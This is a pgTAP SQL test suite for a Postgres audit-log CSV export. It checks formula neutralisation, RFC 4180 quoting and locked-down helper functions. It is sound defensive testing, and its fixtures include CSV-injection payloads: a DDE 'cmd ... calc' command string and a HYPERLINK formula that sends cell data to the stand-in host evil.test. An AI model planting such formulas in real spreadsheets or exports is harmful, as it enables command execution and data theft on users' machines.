-- CSV exports neutralise spreadsheet formulas (CSV injection, OWASP): a field
-- starting with =, +, -, @, a tab or a carriage return is prefixed with a
-- single quote, and stays RFC 4180 (quoted when it holds a comma, a quote,
-- CR or LF, or edge spaces; inner quotes doubled). The helpers have a fixed
-- search_path (Supabase lint 0011, function_search_path_mutable).
begin;
select plan(25);

-- -----------------------------------------------------------------------------
-- audit.csv_field, one field at a time.
-- -----------------------------------------------------------------------------
select is(audit.csv_field('=SUM(A1:A9)'), '''=SUM(A1:A9)', 'a field starting with = gets a leading quote');
select is(audit.csv_field('+33 6 12 34 56 78'), '''+33 6 12 34 56 78', '… with +');
select is(audit.csv_field('-2+3+cmd|'' /C calc''!A0'), '''-2+3+cmd|'' /C calc''!A0', '… with -');
select is(audit.csv_field('@SUM(1+1)'), '''@SUM(1+1)', '… with @');
select is(audit.csv_field(E'\t=1+1'), E'''\t=1+1', '… with a tab');
select is(audit.csv_field(E'\r=1+1'), E'"''\r=1+1"', '… with a carriage return (then quoted: it holds a CR)');
select is(audit.csv_field('=HYPERLINK("https://evil.test/?d="&A1,"Détails")'),
  '"''=HYPERLINK(""https://evil.test/?d=""&A1,""Détails"")"',
  'a formula with quotes and a comma: prefixed, then quoted with its quotes doubled');
select is(audit.csv_field('=1,2'), '"''=1,2"', 'the quote goes inside the RFC 4180 quotes');
select is(audit.csv_field('a=b+c-d@e'), 'a=b+c-d@e', 'the characters are harmless after the first position');
select is(audit.csv_field('Remplacement vanne'), 'Remplacement vanne', 'plain text is unchanged');
select is(audit.csv_field(''), '', 'an empty string stays empty');
select is(audit.csv_field(null), '', 'null is an empty field');
select is(audit.csv_field(' x'), '" x"', 'edge spaces are still quoted');
select is(audit.csv_rows(array[['1', '=a', null], ['2', 'b,c', '@d']]), E'1,''=a,\r\n2,"b,c",''@d',
  'audit.csv_rows: records joined by CRLF, every field escaped the same way');
select is(audit.csv_field('Dit "oui"'), '"Dit ""oui"""', 'quotes are still doubled');

-- -----------------------------------------------------------------------------
-- Fixed search_path (and still what the export needs).
-- -----------------------------------------------------------------------------
select ok((select 'search_path=""' = any (proconfig) from pg_proc where oid = 'audit.csv_field(text)'::regprocedure),
  'audit.csv_field has search_path = ''''');
select ok((select 'search_path=""' = any (proconfig) from pg_proc where oid = 'audit.utc_iso(timestamptz)'::regprocedure),
  'audit.utc_iso has search_path = ''''');
select is(audit.utc_iso('2026-12-03 10:11:12.5+01'), '2026-12-03T09:11:12.500000Z', 'audit.utc_iso still prints ISO-8601 UTC');
select ok(not has_function_privilege('authenticated', 'audit.csv_field(text)', 'execute')
          and not has_function_privilege('anon', 'audit.csv_field(text)', 'execute')
          and not has_function_privilege('authenticated', 'audit.csv_rows(text[])', 'execute')
          and (select 'search_path=""' = any (proconfig) from pg_proc where oid = 'audit.csv_rows(text[])'::regprocedure),
  'the helpers stay private to the export');

-- -----------------------------------------------------------------------------
-- The export: formulas in a free-text reason come out neutralised.
-- Organization A's owner (a…01) exports; reasons reach audit.log through
-- terrain.audit_reason as a client is edited.
-- -----------------------------------------------------------------------------
insert into public.organizations (id, name) values ('c5800000-0000-4000-8000-0000000000f0', 'Audit Formules');
insert into public.memberships (org_id, user_id, role)
values ('c5800000-0000-4000-8000-0000000000f0', 'a0000000-0000-4000-8000-000000000001', 'owner');
insert into public.clients (id, org_id, name)
values ('c5800000-0000-4000-8000-0000000000c1', 'c5800000-0000-4000-8000-0000000000f0', '=cmd|'' /C calc''!A0');
select set_config('terrain.audit_reason', '=HYPERLINK("https://evil.test/?d="&A1,"Détails")', true);
update public.clients set notes = 'n1' where id = 'c5800000-0000-4000-8000-0000000000c1';
select set_config('terrain.audit_reason', '@SUM(1+1)', true);
update public.clients set notes = 'n2' where id = 'c5800000-0000-4000-8000-0000000000c1';
select set_config('terrain.audit_reason', '-1+1', true);
update public.clients set notes = 'n3' where id = 'c5800000-0000-4000-8000-0000000000c1';
select set_config('terrain.audit_reason', '+33 6 12 34 56 78', true);
update public.clients set notes = 'n4' where id = 'c5800000-0000-4000-8000-0000000000c1';
select set_config('terrain.audit_reason', '', true);

create temporary table t_csv (body text) on commit drop;
insert into t_csv
select tests.as_user('a0000000-0000-4000-8000-000000000001',
  'select to_jsonb(public.audit_log_csv(''c5800000-0000-4000-8000-0000000000f0'')::text)') ->> 0;

select ok(strpos((select body from t_csv), ',"''=HYPERLINK(""https://evil.test/?d=""&A1,""Détails"")",') > 0,
  'export: a HYPERLINK formula in a reason is prefixed and quoted');
select ok(strpos((select body from t_csv), E',''@SUM(1+1),') > 0, 'export: an @ reason is prefixed');
select ok(strpos((select body from t_csv), E',''-1+1,') > 0, 'export: a - reason is prefixed');
select ok(strpos((select body from t_csv), E',''+33 6 12 34 56 78,') > 0, 'export: a + reason is prefixed');
-- No field, quoted or not, starts with a formula character. Fields start
-- after a comma or a record's CRLF; a quoted field's content after its quote.
select is_empty(
  $$select f from t_csv, regexp_matches(body, E'(?:^|,|\r\n)"?([=+@\t\r-][^,\r\n]*)', 'g') as m (f)$$,
  'export: no field of the file starts with =, +, -, @, tab or CR');
select is((select count(*)::int from t_csv, regexp_split_to_table(body, E'\r\n(?=[0-9]+,)') x), 8,
  'export: still RFC 4180 — a header and 7 records (organization, membership, client, 4 updates)');

select * from finish();
rollback;
